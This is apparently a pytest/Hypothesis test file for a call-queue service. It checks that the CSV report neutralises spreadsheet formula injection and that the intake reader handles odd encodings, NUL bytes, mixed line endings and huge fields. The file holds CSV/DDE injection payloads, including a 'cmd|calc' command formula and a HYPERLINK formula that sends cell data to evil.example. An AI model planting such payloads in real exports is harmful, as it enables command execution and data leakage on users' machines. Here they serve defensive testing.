"""Hostile inputs not covered elsewhere (see test_rows.py, test_phone.py, test_exotel_parse.py
and test_callbacks.py for the rest; the XML entity bomb and external entities are already in
test_exotel_parse.py, callback bodies are fuzzed in test_callbacks.py).

1. Formula injection in any column that reaches the report CSV, through the real path: a CSV
   enqueued by ``Enqueuer`` into real Redis, a callback applied and a failure recorded by the
   ledger's own scripts, then ``producer.report.write_report``. The CSV is read back the way a
   spreadsheet reads it (an unquoted CR or LF ends a row): no cell may start with
   ``= + - @ TAB CR`` unless it is an E.164 number, and no value may start a row of its own.
2. Odd encodings (UTF-16/32 with and without BOM, a UTF-8 BOM in front of UTF-16, Latin-1,
   NUL bytes, CR/LF/CRLF mixed line by line) and huge fields in every column, through
   ``read_rows``: a clear error (a ``FileIssue``, or a ``RowError`` naming line and field, in
   printable text), the good rows still read, never an exception.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import time

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from callq.intake.csvread import LINE_MAX_BYTES, read_rows
from callq.intake.enqueue import Enqueuer
from callq.intake.report import REPORT_COLUMNS, write_report
from callq.intake.request import CallRequest, FileIssue, RowError
from callq.settings import Settings
from callq.store.callbacks import CallbackEvent, CallbackStore
from callq.store.ledger import Ledger

Item = CallRequest | RowError | FileIssue

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
E164 = re.compile(r"\+[1-9][0-9]{1,14}")
HEADER = ["From", "To", "CallerId", "Url", "CustomField", "TimeLimit", "TimeOut"]
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "1+1",
    "SUM(1,2)*cmd|'/C calc'!A0",
    "919052161119",
    "9052161119",
    "2+3",
    "",
)
_campaigns = itertools.count()


def _text(*, cr: bool) -> st.SearchStrategy[str]:
    banned = "" if cr else "\r"
    return st.text(
        alphabet=st.characters(exclude_categories=["Cs"], exclude_characters=banned),
        max_size=40,
    )


def payloads(*, cr: bool = False) -> st.SearchStrategy[str]:
    """Formula-looking text: one or more trigger characters, then a payload; or any text."""
    triggers = TRIGGERS if cr else TRIGGERS[:-1]
    return st.one_of(
        st.builds(
            lambda t, b: "".join(t) + b,
            st.lists(st.sampled_from(triggers), min_size=1, max_size=3),
            st.one_of(st.sampled_from(BODIES), _text(cr=cr)),
        ),
        _text(cr=cr),
    )


def spreadsheet_rows(text: str) -> list[list[str]]:
    """Rows as a spreadsheet reads a CSV file: an unquoted CR, LF or CRLF ends a row."""
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_bytes(rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    return buf.getvalue().encode("utf-8")


def _report(ledger: Ledger, campaign: str) -> tuple[str, list[dict[str, str]]]:
    out = io.StringIO()
    write_report(ledger, campaign, out, "csv")
    raw = io.StringIO()
    write_report(ledger, campaign, raw, "jsonl")
    return out.getvalue(), [json.loads(line) for line in raw.getvalue().split("\n") if line]


def assert_inert(text: str, raw_rows: list[dict[str, str]]) -> None:
    """The report CSV holds exactly one row per call, and every cell is inert and faithful."""
    rows = spreadsheet_rows(text)
    assert rows[0] == list(REPORT_COLUMNS)
    assert len(rows) == 1 + len(raw_rows), f"a value started a row of its own: {rows!r}"
    for cells, raw in zip(rows[1:], raw_rows, strict=True):
        assert len(cells) == len(REPORT_COLUMNS), cells
        for column, cell in zip(REPORT_COLUMNS, cells, strict=True):
            value = raw[column]
            if cell.startswith(TRIGGERS):
                assert E164.fullmatch(cell), f"{column}: {cell!r} would run as a formula"
            # Nothing is lost: the cell is the value, or the value behind a quote mark.
            assert cell in (value, "'" + value), (column, cell, value)


def _anchor(i: int, custom_field: str) -> list[str]:
    return [
        f"+9198{i:08d}",
        f"+9197{i:08d}",
        "08030752400",
        "",
        custom_field,
        "60",
        "30",
    ]


def _enqueue_and_touch(
    enq: Enqueuer, ledger: Ledger, rows: list[list[str]], sid: str, status: str, error: str
) -> str:
    """Enqueue ``rows``; row 1 gets a callback (sid, status, duration), row 2 a failure with
    ``error``, each through the ledger's own scripts. Returns the campaign."""
    campaign = f"fuzz{next(_campaigns)}"
    result = enq.enqueue_file(io.BytesIO(csv_bytes([HEADER, *rows])), campaign)
    assert result.accepted >= 2, result.as_dict()
    first, second = list(ledger.iter_request_ids(campaign))[:2]
    store = CallbackStore(ledger.redis, ledger.keys)
    store.apply(
        CallbackEvent(
            sid=sid, status=status, custom_field=first, fields={"ConversationDuration": status}
        )
    )
    claim = ledger.claim(second, lease_seconds=60, early_tolerance=1, worker="fuzz")
    assert claim.claimed
    assert ledger.mark_sent(second, claim.claim, lease_seconds=60)
    assert ledger.finish(second, claim.claim, "failed", error=error).ok
    return campaign


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    custom=st.lists(payloads(), min_size=2, max_size=2),
    extra=st.lists(st.lists(payloads(), min_size=7, max_size=7), max_size=4),
    sid=payloads().map(lambda s: s.replace(" ", "")[:120] or "=1"),
    status=payloads().map(lambda s: s[:60] or "@x"),
    error=payloads(),
)
@example(
    custom=["=cmd|' /C calc'!A0", "@SUM(A1)"],
    extra=[["=cmd|' /C calc'!A0"] * 7, ["-9052161119", "+919052161118", "08030752400"] + [""] * 4],
    sid="=HYPERLINK(1)",
    status="-1+1",
    error="+cmd|' /C calc'!A0",
)
def test_given_formulas_in_any_column_when_reported_then_every_cell_is_inert(
    settings: Settings,
    ledger: Ledger,
    enqueuer: Enqueuer,
    custom: list[str],
    extra: list[list[str]],
    sid: str,
    status: str,
    error: str,
) -> None:
    rows = [_anchor(0, custom[0]), _anchor(1, custom[1]), *extra]
    campaign = _enqueue_and_touch(enqueuer, ledger, rows, sid, status, error)
    text, raw = _report(ledger, campaign)
    assert_inert(text, raw)
    # The formulas reached the report's columns as data (they were not refused upstream).
    assert raw[0]["sid"] == sid and raw[0]["call_status"] == status
    assert raw[1]["last_error"] == error


@pytest.fixture
def enqueuer(settings: Settings) -> Enqueuer:
    return Enqueuer(settings)


@pytest.mark.parametrize("value", ["\r=1+1", "ok\r=cmd|' /C calc'!A0", "\r\t@SUM(A1)"])
def test_given_a_carriage_return_in_a_custom_field_when_reported_then_no_row_is_injected(
    settings: Settings, ledger: Ledger, enqueuer: Enqueuer, value: str
) -> None:
    campaign = _enqueue_and_touch(
        enqueuer, ledger, [_anchor(0, value), _anchor(1, "b")], "s1", "completed", "x"
    )
    text, raw = _report(ledger, campaign)
    assert raw[0]["CustomField"] == value  # kept verbatim as data
    assert_inert(text, raw)


# --- read_rows: odd encodings, NUL bytes, line-ending mixes, huge fields ------------------------

GOOD = [
    ["9052161119", "9052161118", "08030752400", "ok-1"],
    ["+91 90521 61119", "09052161117", "08030752400", "ok-2"],
    ["9052161119", "9052161116", "08030752400", "ok-3"],
]
HEAD4 = "From,To,CallerId,CustomField"


def read(data: bytes) -> list[Item]:
    started = time.monotonic()
    items = list(read_rows(io.BytesIO(data), default_caller_id="08030752400"))
    assert time.monotonic() - started < 10, "read_rows took too long"
    for item in items:
        assert isinstance(item, CallRequest | RowError | FileIssue), item
        if not isinstance(item, CallRequest):
            # The field of a RowError is checked by its own test below.
            text = item.message
            assert text.strip() and text.isprintable(), f"unclear message: {text!r}"
            assert len(text) < 2000, "the message must not echo a huge field"
        if isinstance(item, RowError):
            assert item.line >= 2 and item.field, item
    return items


def text_of(rows: list[list[str]], custom: list[str]) -> str:
    lines = [HEAD4] + [
        ",".join([*r[:3], '"' + c.replace('"', '""') + '"'])
        for r, c in zip(rows, custom, strict=True)
    ]
    return "\n".join(lines) + "\n"


@settings(max_examples=150, deadline=None)
@given(
    codec=st.sampled_from(["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]),
    bom=st.sampled_from([b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"]),
    custom=st.lists(_text(cr=False).filter(lambda s: "\n" not in s), min_size=3, max_size=3),
)
def test_given_a_utf16_or_utf32_file_then_a_clear_issue_and_never_a_wrong_call(
    codec: str, bom: bytes, custom: list[str]
) -> None:
    data = bom + text_of(GOOD, custom).encode(codec)
    items = read(data)
    calls = [i for i in items if isinstance(i, CallRequest)]
    assert calls == [], f"a call was read from a {codec} file: {calls}"
    assert any(isinstance(i, FileIssue) for i in items), items


@settings(max_examples=150, deadline=None)
@given(
    codec=st.sampled_from(["latin-1", "cp1252", "utf-8"]),
    custom=st.lists(
        st.text(alphabet="abcé€ñ ü-=+@", max_size=12).filter(lambda s: s.strip()),
        min_size=3,
        max_size=3,
    ),
)
def test_given_a_single_byte_encoded_file_then_only_rows_with_non_utf8_bytes_are_refused(
    codec: str, custom: list[str]
) -> None:
    data = text_of(GOOD, custom).encode(codec, errors="replace")
    items = read(data)
    calls = {i.line: i for i in items if isinstance(i, CallRequest)}
    errors = {i.line: i for i in items if isinstance(i, RowError)}
    for n, value in enumerate(custom, start=2):
        encoded = value.encode(codec, errors="replace")
        try:
            expected = encoded.decode("utf-8")
        except UnicodeDecodeError:
            assert n in errors and errors[n].field == "CustomField", (n, items)
            assert "not UTF-8" in errors[n].message
        else:
            assert n in calls and calls[n].custom_field == expected, (n, items)


@settings(max_examples=200, deadline=None)
@given(
    custom=st.lists(_text(cr=False).filter(lambda s: "\n" not in s), min_size=3, max_size=3),
    nuls=st.lists(st.integers(min_value=0, max_value=10_000), min_size=1, max_size=4),
)
def test_given_nul_bytes_anywhere_then_a_clear_error_or_the_nul_kept_as_data(
    custom: list[str], nuls: list[int]
) -> None:
    data = bytearray(text_of(GOOD, custom).encode())
    for at in sorted(nuls, reverse=True):
        data[at % (len(data) + 1) : at % (len(data) + 1)] = b"\x00"
    items = read(bytes(data))
    for call in (i for i in items if isinstance(i, CallRequest)):
        # A NUL can survive only in CustomField, which is data; never in a number.
        assert "\x00" not in (call.from_ + (call.to or "") + (call.caller_id or ""))
        assert E164.fullmatch(call.from_) and call.to and E164.fullmatch(call.to)


@settings(max_examples=200, deadline=None)
@given(
    endings=st.lists(
        st.tuples(
            st.sampled_from([b"\n", b"\r\n", b"\r"]),
            st.sampled_from([b"", b"\n", b"\r\n", b"  ,  ,  ,\r\n"]),
        ),
        min_size=4,
        max_size=4,
    ),
    bom=st.booleans(),
)
def test_given_line_endings_mixed_line_by_line_then_every_row_is_read_with_its_physical_line(
    endings: list[tuple[bytes, bytes]], bom: bool
) -> None:
    lines = [HEAD4.encode()] + [",".join(r).encode() for r in GOOD]
    data = b"\xef\xbb\xbf" if bom else b""
    expected = []
    for n, (line, (end, blank)) in enumerate(zip(lines, endings, strict=True)):
        if n:  # a data line starts with a digit, so the breaks before it are final
            expected.append(1 + len(re.findall(rb"\r\n|\r|\n", data)))
        data += line + end + blank
    items = read(data)
    calls = [i for i in items if isinstance(i, CallRequest)]
    assert [c.custom_field for c in calls] == ["ok-1", "ok-2", "ok-3"], items
    assert [c.line for c in calls] == expected, (data, items)
    assert not [i for i in items if isinstance(i, RowError)], items


def test_given_an_unknown_column_with_control_codes_and_a_non_utf8_cell_then_the_error_is_printable() -> (
    None
):
    data = b"From,To,CallerId,\x1b[31mNote\n9052161119,9052161118,08030752400,caf\xe9\n"
    (error,) = [i for i in read(data) if isinstance(i, RowError)]
    assert str(error).isprintable(), repr(str(error))


COLUMNS = [
    "From",
    "To",
    "CallerId",
    "Url",
    "CustomField",
    "TimeLimit",
    "TimeOut",
    "RequestKey",
    "WaitUrl",
]


def _filler(column: str, size: int) -> str:
    if column in ("From", "To", "CallerId", "TimeLimit", "TimeOut"):
        return "9" * size
    if column in ("Url", "WaitUrl"):
        return "http://example.com/" + "x" * max(size - 19, 0)
    return "x" * size


@settings(max_examples=60, deadline=None)
@given(
    column=st.sampled_from(COLUMNS),
    size=st.sampled_from(
        [257, 2049, 5_000, LINE_MAX_BYTES - 200, LINE_MAX_BYTES, LINE_MAX_BYTES + 1, 300_000]
    ),
    quoted=st.booleans(),
    crlf=st.booleans(),
)
def test_given_a_huge_field_in_any_column_then_one_clear_row_error_and_the_next_row_read(
    column: str, size: int, quoted: bool, crlf: bool
) -> None:
    header = COLUMNS
    if column in ("Url", "WaitUrl"):
        size = max(size, 2049)  # a URL may have 2048 characters
    good = ["9052161119", "9052161118", "08030752400", "", "ok", "60", "30", "", ""]
    huge = list(good)
    if column == "Url":
        huge[1] = ""
    huge[header.index(column)] = _filler(column, size)
    if quoted:
        huge = ['"' + c + '"' for c in huge]
    nl = "\r\n" if crlf else "\n"
    text = nl.join([",".join(header), ",".join(huge), ",".join(good)]) + nl
    items = read(text.encode())
    errors = [i for i in items if isinstance(i, RowError)]
    calls = [i for i in items if isinstance(i, CallRequest)]
    assert [c.line for c in calls] == [3], items
    assert [e.line for e in errors] == [2], items
    assert errors[0].field in (column, "row"), errors[0]


def test_helpers_read_a_spreadsheet_the_way_a_spreadsheet_does() -> None:
    # The checker itself: an unquoted CR starts a new row; a quoted one does not.
    assert spreadsheet_rows('a\r=1,b\n"c\r=2",d\n') == [["a"], ["=1", "b"], ["c\r=2", "d"]]
    assert json.loads(json.dumps({"x": "\r"}))["x"] == "\r"
